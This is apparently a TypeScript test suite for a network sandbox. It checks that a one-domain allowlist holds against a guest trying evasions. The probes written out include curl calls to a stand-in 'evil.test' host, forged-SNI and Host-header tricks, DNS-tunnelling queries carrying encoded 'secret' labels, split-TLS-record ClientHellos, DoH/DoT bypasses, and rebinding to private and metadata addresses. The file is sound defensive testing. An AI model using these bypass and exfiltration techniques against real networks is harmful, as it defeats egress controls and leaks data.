/**
 * A list of names as the boundary: what one allowed domain opens to curl, git, python3 and getent in a real
 * guest, and what it keeps shut, to a guest that tries every other way.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { type Batch, inGuest, reach } from "../support/batch.ts";
import {
  EVIL,
  METADATA,
  PRIVATE,
  PUBLIC,
  PUBLIC_2,
  RESOLVERS,
  SHARED,
  SILENT,
} from "../support/places.ts";
import { until } from "../support/process.ts";
import { contacts, type Report } from "../support/recorder.ts";
import { openWorld, type World } from "../support/world.ts";

let world: World;
beforeAll(async () => {
  world = await openWorld();
});
afterAll(() => world?.[Symbol.asyncDispose]());

const curl = "curl -sS -m 20 --cacert /trust/ca.pem";
const dig = "dig +tries=1 +time=5";

function policyFile(name: string, text: string): readonly string[] {
  const path = join(world.scratch, name);
  writeFileSync(path, text);
  return ["--policy", path];
}

/** Status and what was said, of a probe that must not succeed. */
function refused(batch: Batch<string>, name: string): void {
  expect([name, batch.probes[name]?.status]).not.toEqual([name, 0]);
  expect([name, batch.probes[name]?.stdout]).toEqual([name, ""]);
}

describe("one allowed domain", () => {
  let batch: Batch<string>;
  let seen: Report;

  beforeAll(async () => {
    await world.internet.reset();
    const policy = policyFile(
      "one.yaml",
      "default: deny\nrules: [allow@api.allowed.test:tcp:443]\ndenyWith: reject\n",
    );
    batch = await inGuest(world, [...policy, ...world.withCa], {
      https: `${curl} https://api.allowed.test/`,
      upperCase: `${curl} https://API.Allowed.TEST./`,
      python: `python3 -c '
import ssl, urllib.request
context = ssl.create_default_context(cafile="/trust/ca.pem")
print(urllib.request.urlopen("https://api.allowed.test/", context=context, timeout=20).status)'`,
      getent: "getent ahostsv4 api.allowed.test",
      git: "GIT_SSL_CAINFO=/trust/ca.pem git ls-remote https://api.allowed.test/none.git",
      // Other doors of the same house.
      plain: `${curl} http://api.allowed.test/`,
      otherPort: `${curl} https://api.allowed.test:8443/`,
      udp: `${reach([`udp:${PUBLIC}:7`], 1)} | grep open`,
      // Other houses.
      sibling: `${curl} https://files.allowed.test/`,
      apex: `${curl} https://allowed.test/`,
      lookAlike: `${curl} https://xallowed.test/`,
      trailing: `${curl} https://allowed.test.evil.test/`,
      evil: `${curl} https://evil.test/`,
      // By address, under the allowed name, and with the allowed name's address under another name.
      rawAddress: `${curl} -k https://${EVIL}/`,
      forgedSni: `${curl} -k --resolve api.allowed.test:443:${EVIL} https://api.allowed.test/`,
      foreignName: `${curl} -k --resolve evil.test:443:${PUBLIC} https://evil.test/`,
      // Through a resolver that lies: it is never asked, and what it would say pins nothing.
      liar: `${dig} +short @${EVIL} api.allowed.test`,
      afterLiar: `${curl} -k --resolve api.allowed.test:443:${EVIL} https://api.allowed.test/`,
      // Data in labels, by every type and both transports.
      tunnel: "for t in A AAAA TXT CNAME MX NS SRV NULL HTTPS ANY; do " +
        `${dig} +noall +comments c2VjcmV0.evil.test $t; ${dig} +tcp +noall +comments dA.x.evil.test $t; done`,
      tunnelAside: `${dig} +short @${RESOLVERS[1]} c2VjcmV0.evil.test TXT`,
      tunnelUnder: `${dig} +short c2VjcmV0.api.allowed.test`,
      // Names by other ways.
      dot: `${reach([`tcp:${RESOLVERS[0]}:853`, `udp:${RESOLVERS[0]}:853`], 1)} | grep open`,
      doh: `${curl} -k -H 'content-type: application/dns-message' https://${
        RESOLVERS[0]
      }/dns-query`,
      ping: `ping -c 1 -W 1 ${PUBLIC}`,
    });
    seen = await world.internet.report();
  }, 300_000);

  test("is open to the usual clients", () => {
    expect(batch.probes.https?.stdout).toMatch(/:443 as api\.allowed\.test over HTTP\/2\.0\n$/);
    expect(batch.probes.upperCase?.status).toBe(0);
    expect(batch.probes.python?.stdout).toBe("200\n");
    expect(batch.probes.getent?.stdout).toContain(PUBLIC);
    // The server has no such repository, which only a server that was reached can say.
    expect(batch.probes.git?.stderr).toMatch(/not valid|not found/);
  });

  test("opens nothing else of the same server", () => {
    for (const name of ["plain", "otherPort", "udp"]) refused(batch, name);
    const ports = Object.keys(seen.accepts).map((to) => to.slice(to.lastIndexOf(":") + 1));
    expect(new Set(ports)).toEqual(new Set(["443"]));
  });

  test("opens no other name, however alike", () => {
    for (const name of ["sibling", "apex", "lookAlike", "trailing", "evil"]) refused(batch, name);
    expect(contacts(seen, [PUBLIC_2, EVIL])).toEqual({});
  });

  test("is no key to other addresses, and its address is no key for other names", () => {
    for (const name of ["rawAddress", "forgedSni", "foreignName", "afterLiar"]) {
      refused(batch, name);
    }
    expect(contacts(seen, [EVIL])).toEqual({});
    expect(seen.names.filter(({ sni }) => sni !== "api.allowed.test")).toEqual([]);
  });

  test("is what every resolver says it is", () => {
    expect(batch.probes.liar?.stdout).toBe(`${PUBLIC}\n`);
    expect(seen.queries.filter(({ to }) => to === EVIL)).toEqual([]);
  });

  test("lets no other name out of the machine", () => {
    const statuses = batch.probes.tunnel?.stdout.match(/status: \w+/g) ?? [];
    expect([statuses.length, new Set(statuses)]).toEqual([20, new Set(["status: NXDOMAIN"])]);
    for (const name of ["tunnelAside", "tunnelUnder"]) {
      expect(batch.probes[name]?.stdout).toBe("");
    }
    const asked = new Set(seen.queries.map(({ name }) => name.toLowerCase()));
    expect(asked).toEqual(new Set(["api.allowed.test"]));
  });

  test("opens no other transport of names, and no ping", () => {
    for (const name of ["dot", "doh"]) refused(batch, name);
    expect(batch.probes.ping?.status).not.toBe(0);
    expect(Object.keys(seen.packets).filter((key) => /:853$|^icmp/.test(key))).toEqual([]);
  });

  test("tells each refusal with its reason", () => {
    expect(batch.run.stderr).toMatch(/^sbx: denied .*evil\.test/m);
    expect(batch.run.stderr).toMatch(
      new RegExp(`^sbx: denied tcp ${EVIL.replaceAll(".", "\\.")}:443`, "m"),
    );
  });
});

describe("two tenants of one address", () => {
  test("are told apart by the name on the wire, in either kind of list", async () => {
    await world.internet.reset();
    const list = policyFile(
      "tenants.yaml",
      "default: deny\nrules: [allow@good.cdn.test]\ndenyWith: reject\n",
    );
    const commands = {
      good: `${curl} https://good.cdn.test/`,
      bad: `${curl} --resolve bad.cdn.test:443:${SHARED} https://bad.cdn.test/`,
      badHost:
        `${curl} --resolve good.cdn.test:80:${SHARED} -H 'Host: bad.cdn.test' http://good.cdn.test/`,
      // The name in a second TLS record, where a careless parser does not look.
      split: `python3 -c '
import socket, ssl
context = ssl.create_default_context(cafile="/trust/ca.pem")
inbox, outbox = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = context.wrap_bio(inbox, outbox, server_hostname="bad.cdn.test")
try: tls.do_handshake()
except ssl.SSLWantReadError: pass
hello = outbox.read(); body = hello[5:]
records = b"".join(hello[:3] + len(p).to_bytes(2, "big") + p for p in (body[:40], body[40:]))
s = socket.create_connection(("${SHARED}", 443), 5); s.settimeout(5); s.sendall(records)
print(len(s.recv(99)))'`,
    };
    // Both on one connection, written for a proxy, as servers answer too: code and new connections of each.
    const each = ["good", "bad"].map((name) => `-o /dev/null http://${name}.cdn.test/`).join(" ");
    const behindUrl = `${curl} -x http://${SHARED}:80 -w '%{http_code} %{num_connects} ' ${each}`;
    const allowing = await inGuest(world, [...list, ...world.withCa], commands);
    expect(allowing.probes.good.status).toBe(0);
    for (const name of ["bad", "badHost", "split"]) refused(allowing, name);

    const denying = await inGuest(
      world,
      ["--deny", "bad.cdn.test", "--deny-with", "reject", ...world.withCa],
      { ...commands, behindUrl },
    );
    expect(denying.probes.good.status).toBe(0);
    expect(denying.probes.behindUrl.stdout).toBe("200 1 403 0 ");
    for (const name of ["bad", "badHost", "split"]) refused(denying, name);

    const { names, requests } = await world.internet.report();
    expect(names.filter(({ sni }) => sni === "bad.cdn.test")).toEqual([]);
    expect(requests.filter(({ host }) => host === "bad.cdn.test")).toEqual([]);
  }, 300_000);
});

describe("answers", () => {
  test("that lead into private networks are withheld, and useless where they are not", async () => {
    await world.internet.reset();
    const commands = {
      private: `${dig} +short private.evil.test`,
      metadata: `${dig} +short metadata.evil.test`,
      loopback: `${dig} +short loopback.evil.test`,
      connect: `${curl} -m 3 http://private.evil.test/`,
    };
    const on = await inGuest(world, ["--deny-with", "reject"], commands);
    for (const name of ["private", "metadata", "loopback"] as const) {
      expect([name, on.probes[name].stdout]).toEqual([name, ""]);
    }
    refused(on, "connect");

    const off = await inGuest(
      world,
      ["--no-dns-rebind-protection", "--deny-with", "reject"],
      { private: commands.private, connect: commands.connect },
    );
    expect(off.probes.private.stdout).toBe(`${PRIVATE[0]}\n`);
    refused(off, "connect");
    expect(contacts(await world.internet.report(), [PRIVATE[0], METADATA[0]])).toEqual({});
  }, 300_000);

  test("for blocked names, and for names that hide one behind an alias, do not exist", async () => {
    await world.internet.reset();
    writeFileSync(join(world.scratch, "list"), "# ads\n0.0.0.0 files.allowed.test\nevil.test\n");
    const log = join(world.scratch, "names.jsonl");
    // Two resolvers, the first of which never answers.
    const servers = ["--dns-server", SILENT, "--dns-server", RESOLVERS[1], "--dns-timeout", "20s"];
    const lists = ["--block-domain", `@${join(world.scratch, "list")}`, "--block-doh"];
    const { probes, run } = await inGuest(
      world,
      [...servers, ...lists, "--block-domain-suffix", ".ads.test", "--log", log],
      {
        tracker: `${dig} tracker.ads.test`,
        cloaked: `${dig} +short cloaked.allowed.test`,
        listed: `${dig} +short files.allowed.test; ${dig} +short EVIL.test.`,
        other: `dig +tries=1 +time=15 +short api.allowed.test`,
        below: `${dig} +short allowed.test.evil.test`,
        local: `${dig} +short printer.local`,
        inner: `${dig} +short private.evil.test`,
        doh: `${dig} +short dns.google; ${dig} +short mozilla.cloudflare-dns.com`,
        dohAddress: `${curl} -k https://${RESOLVERS[0]}/dns-query`,
        dot: `${reach([`tcp:${RESOLVERS[0]}:853`], 2)} | grep open`,
        update: `${dig} +opcode=update api.allowed.test`,
        lan: `${curl} -m 2 http://${PRIVATE[0]}/`,
      },
    );
    expect(probes.tracker.stdout).toContain("status: NXDOMAIN");
    expect(probes.tracker.stdout).toMatch(/EDE: 15 \(Blocked\).*blocked-name: \.ads\.test/);
    for (const name of ["cloaked", "listed", "local", "inner", "doh"] as const) {
      expect([name, probes[name].stdout]).toEqual([name, ""]);
    }
    for (const name of ["dohAddress", "dot", "lan"] as const) {
      expect([name, probes[name].status]).not.toEqual([name, 0]);
    }
    expect(probes.other.stdout).toBe(`${PUBLIC}\n`);
    expect(probes.below.stdout).toBe(`${EVIL}\n`); // A name is a name; the suffix form takes what is below.
    const { queries, accepts } = await world.internet.report();
    const hidden = /ads\.test|files\.allowed\.test|^evil\.test|dns\.google|cloudflare|local$/i;
    expect(queries.filter(({ name }) => hidden.test(name))).toEqual([]);
    expect(new Set(queries.map(({ to }) => to))).toEqual(new Set([RESOLVERS[1]]));
    expect(accepts).toEqual({});

    // The reasons in the journal and on standard error are those that can be explained.
    const events = readFileSync(log, "utf8").trim().split("\n").map((line) => JSON.parse(line));
    const reasons = new Set(events.flatMap(({ reason }) => reason ?? []));
    for (const reason of ["blocked-name", "rebind", "local-name", "dns-transport", "rule"]) {
      expect([reason, reasons.has(reason)]).toEqual([reason, true]);
      expect(run.stderr).toMatch(new RegExp(`^sbx: denied .*: ${reason}[ ,]`, "m"));
    }
    for (const reason of reasons) {
      const { status } = await world.sbx(["policy", "explain", reason]);
      expect([reason, status]).toEqual([reason, 0]);
    }
  }, 300_000);
});

test("a port of the host leads to the guest, and every connection is judged", async () => {
  const server = "python3 -u -c 'import socketserver as s\n" +
    "class H(s.StreamRequestHandler):\n def handle(self): self.wfile.write(self.rfile.readline().upper())\n" +
    'print("up"); s.TCPServer(("0.0.0.0", 8000), H).serve_forever()\'';
  const running = world.start(["run", "-p", "0:8000", "--", "sh", "-c", server], { stdin: "" });
  try {
    await until("the server", () => running.stdout().includes("up"));
    const port = /127\.0\.0\.1 port (\d+)/.exec(running.stderr())?.[1];
    const ask = (host: string) =>
      world.run([
        "python3",
        "-c",
        `
import socket
s = socket.create_connection(("${host}", ${port}), 5); s.sendall(b"hello\\n"); print(s.recv(99).decode(), end="")`,
      ]);
    expect((await ask("127.0.0.1")).stdout).toBe("HELLO\n");
    expect((await ask("::1")).stdout).toBe("HELLO\n");
    expect((await ask("151.101.9.2")).stderr).toContain("refused");
  } finally {
    running.kill("SIGTERM");
    await running.ended;
  }
});
